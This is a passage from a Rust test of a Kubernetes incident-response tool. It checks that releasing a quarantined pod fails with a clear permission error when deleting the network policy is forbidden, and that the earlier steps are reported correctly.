        .deny("delete", "networkpolicies", Some("shop"));
    let release = ReleaseOptions {
        namespace: "shop".into(),
        pod: "web-7d4b9-abcde".into(),
        ..ReleaseOptions::default()
    };
    let mut printed: Vec<Step> = Vec::new();
    let e = incident::release(&c, &release, &mut |s: &Step| printed.push(s.clone()))
        .await
        .unwrap_err();
    assert_eq!(e.kind, ErrorKind::Forbidden);
    assert!(
        e.message.contains(
            "needs `delete` on `networkpolicies.networking.k8s.io` in namespace \"shop\""
        ),
        "{}",
        e.message
    );
    let statuses: Vec<(&str, StepStatus)> = printed.iter().map(|s| (s.name, s.status)).collect();
    assert_eq!(
        statuses,
        [
            ("unlabel-pod", StepStatus::Done),
            ("network-policy", StepStatus::Failed)
        ]
    );
    let s = server.state();
    assert_eq!(
        s.get("pods", "shop", "web-7d4b9-abcde").unwrap()["metadata"]["labels"]["app"],
        "web"
    );
    assert!(s
        .get(
            "networkpolicies",
            "shop",
            "palisade-quarantine-web-7d4b9-abcde"
        )
        .is_some());
}
